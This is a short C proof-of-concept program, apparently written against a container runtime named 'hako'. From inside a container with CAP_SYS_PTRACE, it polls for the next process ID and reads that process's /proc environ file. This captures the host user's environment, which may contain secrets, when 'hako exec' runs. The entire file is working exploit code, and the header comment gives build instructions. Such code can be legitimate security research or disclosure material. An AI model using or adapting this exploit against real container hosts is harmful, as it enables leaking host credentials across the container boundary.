// envpeek: in a container with CAP_SYS_PTRACE, read /proc/PID/environ of the
// next new process (spinning on its pid), i.e. `hako exec`'s process before
// its execve: a fork of hako's memory, so it shows the environment of
// whoever ran `hako exec` on the host. Build: gcc -static -O2 -pthread
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
int main(int argc, char **argv) {
    int target = getpid() + 1;
    char path[64], buf[65536];
    snprintf(path, sizeof path, "/proc/%d/environ", target);
    printf("envpeek: spinning on %d\n", target); fflush(stdout);
    int fd;
    while ((fd = open(path, O_RDONLY)) < 0) ;
    int n = read(fd, buf, sizeof buf - 1);
    if (n < 0) { perror("read environ"); return 1; }
    for (int i = 0; i < n; i++) if (!buf[i]) buf[i] = '\n';
    buf[n] = 0;
    printf("envpeek: %d bytes:\n%s\n", n, buf);
    return 0;
}
